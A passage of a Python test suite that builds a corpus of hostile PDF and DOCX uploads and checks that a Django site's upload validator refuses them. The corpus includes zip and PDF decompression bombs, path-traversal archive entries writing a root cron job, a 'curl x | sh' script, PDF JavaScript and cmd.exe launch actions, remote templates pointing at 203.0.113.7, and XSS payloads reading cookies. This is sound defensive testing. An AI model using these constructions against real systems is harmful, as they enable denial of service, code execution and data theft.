"""A hostile corpus, generated here (no binary is committed), sent through HTTP to every upload
field as the person who uses it: the public application form signed out, the annual report as a
member's representative, activity evidence as a member proposing an activity. Every file is
refused with the field's own message and nothing is stored (no row, no file under MEDIA_ROOT);
the good PDF and DOCX are still accepted everywhere.

Files go out as a hostile client sends them: the multipart body is written here, so names reach
the server as given (Django's test client would strip them first). Django's parser then keeps
only a name's last path component and drops unprintable characters (NUL, U+202E) before any form
sees it; ``vpswg.uploads`` refuses such names itself for every other caller
(``test_names_are_checked_even_where_django_did_not_clean_them``).

Figures (printed by the tests; these were measured when this was written): 65 hostile files,
each tried in each of the three fields and refused in all three (195 tries, 195 refusals, no
500, nothing stored); 11 good files accepted in all three. The zip bomb (one 1 GiB part in a
1.0 MB DOCX) is refused in about 1 ms, with a tracemalloc peak of 0.02 MiB and a peak RSS growth
of 0.14 MiB in a fresh process; the whole ``POST /<wg>/apply/`` with it answers 200 in about
100 ms with a tracemalloc peak of 3.8 MiB (the request body itself). The PDF counterpart (an
object stream inflating to 1 GiB) is refused in about 25 ms at 16 MiB. Before, the zip bomb was
accepted after 6-8 s with a 2.2 GB peak.
"""

from __future__ import annotations

import functools
import io
import json
import os
import random
import struct
import subprocess
import sys
import textwrap
import time
import tracemalloc
import uuid
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.cache import caches
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.defaultfilters import filesizeformat
from django.urls import reverse
from django.utils import timezone

from activities.models import Activity, Evidence
from members.models import AnnualReport, Application
from tests.factories import (
    APPLICATION_DATA,
    MINIMAL_PDF,
    docx_bytes,
    make_group,
    make_member,
    make_representative,
    sign_in,
)
from vpswg.scoping import group_scope
from vpswg.uploads import (
    DOCX,
    MAX_DOCUMENT_BYTES,
    MESSAGES,
    PDF,
    validate_document,
)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
KiB = 1024
MiB = 1024 * KiB
GiB = 1024 * MiB
DOCX_TYPE = DOCX.content_type


# --- ZIP, written by hand so that every field of it can lie ---------------------------------


@dataclass(frozen=True)
class Part:
    name: str | bytes
    data: bytes = b""
    method: int = 8
    flags: int = 0
    #: Raw deflate data written as is (a bomb), with the size and CRC it declares.
    deflated: bytes | None = None
    size: int | None = None
    crc: int | None = None


def overlapping_zip() -> bytes:
    """Two entries sharing bytes, the trick of the most compact zip bombs: the first, stored,
    holds the second's header and data whole."""
    inner_name, inner = b"word/document.xml", document_xml().encode()
    inner_fields = (0, 0, 0, 0x21, zlib.crc32(inner), len(inner), len(inner), len(inner_name))
    inner_header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *inner_fields, 0) + inner_name
    outer_name, outer = b"[Content_Types].xml", inner_header + inner
    outer_fields = (0, 0, 0, 0x21, zlib.crc32(outer), len(outer), len(outer), len(outer_name))
    out = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *outer_fields, 0) + outer_name + outer
    central = b""
    for fields, name, offset in (
        (outer_fields, outer_name, 0),
        (inner_fields, inner_name, 30 + len(outer_name)),
    ):
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *fields, 0, 0, 0, 0, 0, offset)
        central += name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(central), len(out), 0)
    return out + central + end


def deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def zip_bytes(parts: list[Part], *, after: bytes = b"") -> bytes:
    """A ZIP as any zipper writes it (local headers, central directory, end record)."""
    out = bytearray()
    central = bytearray()
    for part in parts:
        name = part.name.encode("utf-8") if isinstance(part.name, str) else part.name
        flags = part.flags | (0x800 if not name.isascii() else 0)
        if part.deflated is not None:
            body = part.deflated
        elif part.method == 8:
            body = deflate(part.data)
        else:
            body = part.data
        crc = part.crc if part.crc is not None else zlib.crc32(part.data)
        size = part.size if part.size is not None else len(part.data)
        offset = len(out)
        fields = (flags, part.method, 0, 0x21, crc, len(body), size, len(name))
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *fields, 0) + name + body
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *fields, 0, 0, 0, 0, 0, offset)
        central += name
    cd_offset = len(out)
    out += central
    out += struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(central), cd_offset, 0
    )
    return bytes(out) + after


MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def content_types(main: str = MAIN, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
        f"{extra}</Types>"
    )


def relationships(*rows: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS_NS}">{"".join(rows)}</Relationships>'
    )


def relationship(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def document_xml(paragraphs: int = 1) -> str:
    words = [
        "seguridad",
        "derechos",
        "humanos",
        "principios",
        "voluntarios",
        "empresa",
        "comunidad",
        "policía",
    ]
    rng = random.Random(7)
    body = "".join(
        f"<w:p><w:r><w:t>{' '.join(rng.choice(words) for _ in range(40))}</w:t></w:r></w:p>"
        for _ in range(paragraphs)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{R}">'
        f"<w:body>{body}</w:body></w:document>"
    )


def docx(
    *extra: Part,
    types: str | None = None,
    document_rels: tuple[str, ...] = (),
    settings_rels: tuple[str, ...] = (),
    first: tuple[Part, ...] = (),
    paragraphs: int = 1,
    after: bytes = b"",
) -> bytes:
    """A Word document as Word lays it out, with ``extra`` parts and relationships."""
    parts = [
        *first,
        Part("[Content_Types].xml", (types or content_types()).encode()),
        Part(
            "_rels/.rels",
            relationships(relationship("rId1", "officeDocument", "word/document.xml")).encode(),
        ),
        Part("word/document.xml", document_xml(paragraphs).encode()),
        Part(
            "word/_rels/document.xml.rels",
            relationships(
                relationship("rId1", "settings", "settings.xml"), *document_rels
            ).encode(),
        ),
        Part(
            "word/settings.xml",
            b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        ),
    ]
    if settings_rels:
        parts.append(Part("word/_rels/settings.xml.rels", relationships(*settings_rels).encode()))
    return zip_bytes([*parts, *extra], after=after)


def realistic_docx() -> bytes:
    """About 9 MB: 3 MB of text, an 8 MB picture, an embedded font, printer settings, a web link
    and the author's own template on their disk, as Word saves a report."""
    rng = random.Random(11)
    return docx(
        Part("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + rng.randbytes(8 * MiB)),
        Part("word/fonts/font1.odttf", rng.randbytes(300 * KiB)),
        Part("word/printerSettings/printerSettings1.bin", b"\x00" * 200 + rng.randbytes(800)),
        Part("docProps/core.xml", b"<cp:coreProperties/>"),
        document_rels=(
            relationship("rId2", "image", "media/image1.png"),
            relationship("rId3", "hyperlink", "https://www.voluntaryprinciples.org/", True),
            relationship("rId4", "printerSettings", "printerSettings/printerSettings1.bin"),
        ),
        settings_rels=(
            relationship(
                "rId1",
                "attachedTemplate",
                r"file:///C:\Users\vtorres\AppData\Roaming\Microsoft\Templates\Normal.dotm",
                True,
            ),
        ),
        paragraphs=8000,
    )


def as_zip64(data: bytes) -> bytes:
    """The same archive with a ZIP64 end record, as some packaging libraries always write."""
    _sig, _d, _c, _n, count, cd_size, cd_offset, _comment = struct.unpack("<4s4H2LH", data[-22:])
    record = len(data) - 22
    return (
        data[:-22]
        + struct.pack(
            "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, cd_size, cd_offset
        )
        + struct.pack("<4sLQL", b"PK\x06\x07", 0, record, 1)
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def streamed_docx() -> bytes:
    """A DOCX as a streaming writer makes it: sizes in data descriptors after each part."""

    class Unseekable(io.RawIOBase):
        def __init__(self):
            self.buffer = bytearray()

        def writable(self):
            return True

        def write(self, b):
            self.buffer += b
            return len(b)

    sink = Unseekable()
    source = zipfile.ZipFile(io.BytesIO(docx(paragraphs=50)))
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
    data = bytes(sink.buffer)
    assert struct.unpack_from("<H", data, 6)[0] & 0x08  # a data descriptor follows
    return data


@functools.cache
def bomb_deflate(size: int = GiB) -> tuple[bytes, int, int]:
    """Raw deflate data for ``size`` zero bytes, about 1 KB per MiB (the deflate maximum), with
    its CRC-32 and Adler-32: one MiB compressed once, then repeated block for block."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(bytes(MiB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    crc, adler = 0, 1
    zeros = bytes(MiB)
    for _ in range(size // MiB):
        crc = zlib.crc32(zeros, crc)
        adler = zlib.adler32(zeros, adler)
    return segment * (size // MiB) + final, crc, adler


def zip_bomb() -> bytes:
    """The file seen in production: a ~1 MB DOCX whose [Content_Types].xml expands to 1 GiB."""
    data, crc, _adler = bomb_deflate()
    return zip_bytes(
        [
            Part("[Content_Types].xml", deflated=data, size=GiB, crc=crc),
            Part("word/document.xml", document_xml().encode()),
        ]
    )


# --- PDF, written by hand ---------------------------------------------------------------------


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n" % (entries, len(data)) + data + b"\nendstream"


def pdf(
    *bodies: bytes,
    catalog: bytes = b"",
    page: bytes = b"",
    trailer: bytes = b"",
    head: bytes = b"",
    after: bytes = b"",
) -> bytes:
    """A PDF with a cross-reference table: catalog 1, pages 2, page 3, then ``bodies``."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]" + page + b">>",
        *bodies,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + head
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return out + after


def pdf_with_object_stream(compressed: list[bytes], deflated: bytes | None = None) -> bytes:
    """PDF 1.5: objects 1 (the catalog) and 4, 5... inside a FlateDecode object stream, found
    through a cross-reference stream, as Word, pdfTeX and WeasyPrint write them. Pages 2 and 3
    are plain. ``deflated``: the object stream's data as given (a bomb)."""
    numbers = [1, *range(4, 4 + len(compressed) - 1)]
    body = b""
    header = b""
    for number, obj in zip(numbers, compressed, strict=True):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    content = header + body
    data = deflated if deflated is not None else zlib.compress(content)
    objstm = 4 + len(compressed) - 1
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = {}
    for number, obj in (
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"),
        (
            objstm,
            stream(
                data,
                b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (len(compressed), len(header)),
            ),
        ),
    ):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_number = objstm + 1
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BLH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows.append(struct.pack(">BLH", 1, offsets[number], 0))
        else:
            index = numbers.index(number)
            rows.append(struct.pack(">BLH", 2, objstm, index))
    xref = stream(b"".join(rows), b"/Type/XRef/Size %d/W[1 4 2]/Root 1 0 R" % (xref_number + 1))
    out += b"%d 0 obj\n" % xref_number + xref + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]


def pdf_bomb() -> bytes:
    """An object stream whose FlateDecode data expands to 1 GiB."""
    data, _crc, adler = bomb_deflate()
    return pdf_with_object_stream(
        [b"<</Type/Catalog/Pages 2 0 R>>"],
        deflated=b"\x78\xda" + data + struct.pack(">L", adler),
    )


def weasyprint_pdf(variant: str | None = None) -> bytes:
    """A real writer's PDF, with a web link (an action on click, allowed)."""
    import weasyprint

    page = (
        '<html lang="es"><body><h1>Informe anual</h1>'
        '<p><a href="https://www.voluntaryprinciples.org/">Principios Voluntarios</a></p>'
        + "<p>Capacitación de 40 guardias en el uso de la fuerza.</p>" * 300
        + "</body></html>"
    )
    return weasyprint.HTML(string=page).write_pdf(pdf_variant=variant)


JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
PE = (
    b"MZ\x90\x00\x03" + bytes(55) + struct.pack("<L", 64) + b"PE\x00\x00\x4c\x01"
    b"This program cannot be run in DOS mode.\r\r\n$" + bytes(200)
)
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Root Entry".ljust(64, b"\0")


@dataclass(frozen=True)
class Hostile:
    id: str
    name: str
    content: Callable[[], bytes]
    #: What the message must say (a fragment of the module's message for the refusal).
    says: str
    content_type: str = "application/pdf"


def message(code: str, **params) -> str:
    return str(MESSAGES[code]) % params if params else str(MESSAGES[code])


CORPUS: list[Hostile] = [
    # -- archives and Word documents
    Hostile("zip-bomb", "letter.docx", zip_bomb, "a part larger than 64.0\xa0MB", DOCX_TYPE),
    Hostile(
        "nested-zip-by-name",
        "letter.docx",
        lambda: docx(Part("word/media/annex.zip", zip_bytes([Part("a.txt", b"a")]))),
        "an archive inside it",
        DOCX_TYPE,
    ),
    Hostile(
        "nested-zip-by-magic",
        "letter.docx",
        lambda: docx(Part("word/media/image1.png", zip_bytes([Part("a.exe", PE)]))),
        "an archive inside it",
        DOCX_TYPE,
    ),
    Hostile(
        "many-entries",
        "letter.docx",
        lambda: docx(*(Part(f"word/media/i{n}.png", b"\x89PNG") for n in range(5000))),
        "more than 1000 parts",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-dotdot",
        "letter.docx",
        lambda: docx(Part("../../../../etc/cron.d/vpswg", b"* * * * * root sh")),
        "a path outside the document",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-absolute",
        "letter.docx",
        lambda: docx(Part("/etc/passwd", b"root:x:0:0")),
        "a path outside the document",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-nul",
        "letter.docx",
        lambda: docx(Part(b"word/media/x.png\x00../../evil.sh", b"\x89PNG")),
        "a part with an unusual name",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-backslash",
        "letter.docx",
        lambda: docx(Part("..\\..\\Startup\\evil.bat", b"calc")),
        "a part with an unusual name",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-encrypted",
        "letter.docx",
        lambda: docx(Part("word/media/secret.png", b"\x89PNG" + bytes(64), flags=0x1)),
        "an encrypted part",
        DOCX_TYPE,
    ),
    Hostile(
        "entries-overlapping",
        "letter.docx",
        overlapping_zip,
        "parts that overlap",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-lying-size",
        "letter.docx",
        lambda: docx(
            Part(
                "word/media/image1.png",
                deflated=bomb_deflate(16 * MiB)[0],
                size=100,
                crc=0,
            )
        ),
        "sizes that do not match the content",
        DOCX_TYPE,
    ),
    Hostile(
        "entry-unusual-method",
        "letter.docx",
        lambda: docx(Part("word/media/image1.png", b"BZh91AY&SY", method=12)),
        "an unusual compression method",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-vbaproject",
        "letter.docx",
        lambda: docx(Part("word/vbaProject.bin", OLE)),
        "contains macros",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-macro-enabled",
        "letter.docx",
        lambda: docx_bytes(macro=True),
        "contains macros",
        DOCX_TYPE,
    ),
    Hostile(
        "docm",
        "letter.docm",
        lambda: docx(types=content_types("application/vnd.ms-word.document.macroEnabled.main+xml")),
        "contains macros",
        "application/vnd.ms-word.document.macroEnabled.12",
    ),
    Hostile(
        "docx-ole-embedding",
        "letter.docx",
        lambda: docx(
            Part("word/embeddings/oleObject1.bin", OLE),
            document_rels=(relationship("rId9", "oleObject", "embeddings/oleObject1.bin"),),
        ),
        "embedded objects or controls",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-activex",
        "letter.docx",
        lambda: docx(
            Part("word/activeX/activeX1.xml", b"<ax:ocx/>"),
            Part("word/activeX/activeX1.bin", OLE),
        ),
        "embedded objects or controls",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-ole-renamed",
        "letter.docx",
        lambda: docx(Part("word/media/image2.png", OLE)),
        "embedded objects or controls",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-external-template",
        "letter.docx",
        lambda: docx(
            settings_rels=(
                relationship("rId1", "attachedTemplate", "http://203.0.113.7/t.dotm", True),
            )
        ),
        "a template on another machine",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-external-template-unc-entity",
        "letter.docx",
        lambda: docx(
            settings_rels=(
                f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
                'Target="\\\\203.0.113.7\\share\\t.dotm" TargetMode="&#69;xternal"/>',
            )
        ),
        "a template on another machine",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-external-frame",
        "letter.docx",
        lambda: docx(
            Part(
                "word/_rels/webSettings.xml.rels",
                relationships(
                    relationship("rId1", "frame", "https://203.0.113.7/frame.htm", True)
                ).encode(),
            )
        ),
        "a frame from another address",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-external-picture",
        "letter.docx",
        lambda: docx(
            document_rels=(relationship("rId7", "image", "http://203.0.113.7/p.png", True),)
        ),
        "a picture from another address",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-altchunk",
        "letter.docx",
        lambda: docx(
            Part("word/afchunk.mht", b"MIME-Version: 1.0"),
            document_rels=(relationship("rId8", "aFChunk", "afchunk.mht"),),
        ),
        "embedded objects or controls",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-doctype",
        "letter.docx",
        lambda: docx(
            Part(
                "customXml/_rels/item1.xml.rels",
                b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
                b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships/>',
            )
        ),
        "a document type declaration",
        DOCX_TYPE,
    ),
    Hostile(
        "zip-then-pdf",
        "letter.docx",
        lambda: docx(first=(Part("a.pdf", MINIMAL_PDF, method=0),)),
        "the start of a PDF",
        DOCX_TYPE,
    ),
    Hostile(
        "docx-with-data-after",
        "letter.docx",
        lambda: docx(after=b"<html><script>alert(1)</script></html>"),
        "data after the end of the document",
        DOCX_TYPE,
    ),
    Hostile(
        "zip-without-word-parts",
        "letter.docx",
        lambda: zip_bytes([Part("payload.js", b"WScript.Shell")]),
        "neither a PDF nor a Word",
        DOCX_TYPE,
    ),
    # -- PDFs with active content
    Hostile(
        "pdf-openaction-javascript",
        "letter.pdf",
        lambda: pdf(JS, catalog=b"/OpenAction 4 0 R"),
        "contains JavaScript",
    ),
    Hostile(
        "pdf-hex-escaped-javascript",
        "letter.pdf",
        lambda: pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        "contains JavaScript",
    ),
    Hostile(
        "pdf-javascript-names-tree",
        "letter.pdf",
        lambda: pdf(JS, catalog=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
        "contains JavaScript",
    ),
    Hostile(
        "pdf-launch",
        "letter.pdf",
        lambda: pdf(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A<</S/Launch/Win<</F(cmd.exe)>>>>>>",
            page=b"/Annots[4 0 R]",
        ),
        "a command that starts a program",
    ),
    Hostile(
        "pdf-embedded-file",
        "letter.pdf",
        lambda: pdf(
            b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            stream(PE, b"/Type/EmbeddedFile"),
            catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
        ),
        "an attached file",
    ),
    Hostile(
        "pdf-file-attachment-annotation",
        "letter.pdf",
        lambda: pdf(
            b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]/FS(a.exe)>>",
            page=b"/Annots[4 0 R]",
        ),
        "an attached file",
    ),
    Hostile(
        "pdf-page-additional-actions",
        "letter.pdf",
        lambda: pdf(
            b"<</S/URI/URI(http://203.0.113.7/opened)>>",
            page=b"/AA<</O 4 0 R>>",
        ),
        "actions that run on opening or on events",
    ),
    Hostile(
        "pdf-richmedia",
        "letter.pdf",
        lambda: pdf(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>", page=b"/Annots[4 0 R]"),
        "multimedia content",
    ),
    Hostile(
        "pdf-xfa",
        "letter.pdf",
        lambda: pdf(
            stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
            catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>",
        ),
        "an XFA form",
    ),
    Hostile(
        "pdf-submitform",
        "letter.pdf",
        lambda: pdf(catalog=b"/OpenAction<</S/SubmitForm/F(http://203.0.113.7/)>>"),
        "sends to or opens another file or address",
    ),
    Hostile(
        "pdf-openaction-uri-inline",
        "letter.pdf",
        lambda: pdf(catalog=b"/OpenAction<</S/URI/URI(http://203.0.113.7/opened)>>"),
        "an action that runs on opening",
    ),
    Hostile(
        "pdf-openaction-uri-referenced",
        "letter.pdf",
        lambda: pdf(b"<</S/URI/URI(http://203.0.113.7/opened)>>", catalog=b"/OpenAction 4 0 R"),
        "an action that runs on opening",
    ),
    Hostile(
        "pdf-openaction-hidden-by-escaped-brackets",
        "letter.pdf",
        lambda: pdf(catalog=b"/OpenAction<</X/A#3E#3E/S/URI/URI(http://203.0.113.7/)>>"),
        "an action that runs on opening",
    ),
    Hostile(
        "pdf-javascript-in-object-stream",
        "letter.pdf",
        lambda: pdf_with_object_stream([b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", JS]),
        "contains JavaScript",
    ),
    Hostile(
        "pdf-uri-on-opening-in-object-stream",
        "letter.pdf",
        lambda: pdf_with_object_stream(
            [
                b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
                b"<</S/URI/URI(http://203.0.113.7/opened)>>",
            ]
        ),
        "an action that runs on opening",
    ),
    Hostile(
        "pdf-object-stream-bomb",
        "letter.pdf",
        pdf_bomb,
        "larger than 8.0\xa0MB when decompressed",
    ),
    Hostile(
        "pdf-object-hidden-in-stream",
        "letter.pdf",
        lambda: pdf(stream(b"9 0 obj\n" + JS + b"\nendobj\n"), catalog=b"/OpenAction 9 0 R"),
        "objects hidden inside stream data",
    ),
    Hostile(
        "pdf-encrypted",
        "letter.pdf",
        lambda: pdf(b"<</Filter/Standard/V 2/R 3/O<00>/U<00>/P -4>>", trailer=b"/Encrypt 4 0 R"),
        "encrypted or password-protected",
    ),
    # -- polyglots
    Hostile(
        "pdf-html-polyglot",
        "letter.pdf",
        lambda: pdf(head=b"%<html><body><script>alert(document.domain)</script></body></html>\n"),
        "web page content",
    ),
    Hostile(
        "pdf-zip-polyglot",
        "letter.pdf",
        lambda: pdf(after=docx(Part("word/x.exe.png", PE))),
        "a ZIP archive",
    ),
    Hostile(
        "pdf-zip-inside",
        "letter.pdf",
        lambda: pdf(stream(zip_bytes([Part("a.exe", PE)]))),
        "a ZIP archive",
    ),
    Hostile(
        "pdf-html-after-eof",
        "letter.pdf",
        lambda: pdf(
            stream(b"0 0 m 612 792 l S\n" * 200), after=b"<!doctype html><script>alert(1)</script>"
        ),
        "another file after its end",
    ),
    Hostile(
        "pdf-data-after-eof",
        "letter.pdf",
        lambda: pdf(after=b"0123456789abcdef" * 256),
        "data after the end of the document",
    ),
    Hostile(
        "svg-named-pdf",
        "letter.pdf",
        lambda: (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b"<script>alert(document.cookie)</script></svg>"
        ),
        "neither a PDF nor a Word",
        "image/svg+xml",
    ),
    Hostile(
        "html-named-pdf",
        "letter.pdf",
        lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "neither a PDF nor a Word",
        "text/html",
    ),
    Hostile("exe-named-docx", "letter.docx", lambda: PE, "neither a PDF nor a Word", DOCX_TYPE),
    Hostile("elf-named-pdf", "letter.pdf", lambda: ELF, "neither a PDF nor a Word"),
    Hostile("script-named-pdf", "letter.pdf", lambda: b"#!/bin/sh\ncurl x | sh\n", "neither a PDF"),
    Hostile(
        "png-named-pdf",
        "letter.pdf",
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(100),
        "neither a PDF nor a Word",
        "image/png",
    ),
    Hostile("old-doc-named-docx", "letter.docx", lambda: OLE, "old Word document", DOCX_TYPE),
    # -- sizes
    Hostile("empty", "letter.pdf", lambda: b"", "The file is empty"),
    Hostile(
        "over-the-limit",
        "letter.pdf",
        lambda: MINIMAL_PDF + b"%" * (MAX_DOCUMENT_BYTES - len(MINIMAL_PDF) + 1),
        "the limit is 10.0\xa0MB",
    ),
    # -- names (what Django's parser leaves of them is judged)
    Hostile("name-dotdot", "../../../etc/passwd", lambda: MINIMAL_PDF, "must end in .pdf or .docx"),
    Hostile("name-nul", "letter.pdf\x00.exe", lambda: MINIMAL_PDF, "must end in .pdf or .docx"),
    Hostile(
        "name-right-to-left-override",
        "letter\u202efdp.exe",
        lambda: MINIMAL_PDF,
        "must end in .pdf or .docx",
    ),
    Hostile("name-leading-dot", ".letter.pdf", lambda: MINIMAL_PDF, "not an ordinary file name"),
    Hostile("name-windows-device", "CON.pdf", lambda: MINIMAL_PDF, "not an ordinary file name"),
    Hostile("name-double-extension", "letter.pdf.exe", lambda: PE, "neither a PDF nor a Word"),
]


# --- The three fields, as the people who use them -------------------------------------------


@dataclass
class Field:
    key: str
    url: str
    field: str
    data: dict
    client: object
    stored_rows: Callable[[], int]
    media: Path

    def post(self, name: str, content: bytes, content_type: str):
        body, header = multipart(self.data, self.field, name, content, content_type)
        return self.client.post(self.url, data=body, content_type=header)


def multipart(
    fields: dict, file_field: str, filename: str, content: bytes, content_type: str
) -> tuple[bytes, str]:
    """The body a client sends, the file name exactly as given."""
    boundary = f"----vpswg{uuid.uuid4().hex}"
    chunks = []
    for key, value in fields.items():
        chunks.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        )
    chunks.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; '
        f'filename="{filename}"\r\nContent-Type: {content_type}\r\n\r\n'.encode()
    )
    chunks.append(content)
    chunks.append(f"\r\n--{boundary}--\r\n".encode())
    return b"".join(chunks), f"multipart/form-data; boundary={boundary}"


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture(params=["apply", "report", "evidence"])
def upload_field(request, client, group, _private_media) -> Field:
    if request.param == "apply":
        # Signed out, as an applicant is.
        return Field(
            "apply",
            reverse("apply:form", kwargs={"wg": group.slug}),
            "letter",
            {**APPLICATION_DATA},
            client,
            lambda: _count(group, Application),
            _private_media,
        )
    if request.param == "report":
        sign_in(client, make_representative(group).user)
        return Field(
            "report",
            reverse("members:report", kwargs={"wg": group.slug}),
            "file",
            {"year": timezone.localdate().year - 1, "text": "We trained 40 guards."},
            client,
            lambda: _count(group, AnnualReport),
            _private_media,
        )
    representative = make_representative(group)
    sign_in(client, representative.user)
    return Field(
        "evidence",
        reverse("activities:new", kwargs={"wg": group.slug}),
        "evidence",
        {
            "title": "Taller en Cusco",
            "kind": "workshop",
            "start_date": "2026-05-10",
            "organisers": representative.institution_id,
        },
        client,
        lambda: _count(group, Activity) + _count(group, Evidence),
        _private_media,
    )


def _count(group, model) -> int:
    with group_scope(group):
        return model.objects.count()


def refusal(field: Field, hostile: Hostile) -> str:
    """Why the file was not refused as it must be, or ""."""
    # The public form limits attempts per hour; each file is a fresh attempt here.
    if field.key == "apply":
        caches["default"].clear()
    rows, files = field.stored_rows(), stored_files(field.media)
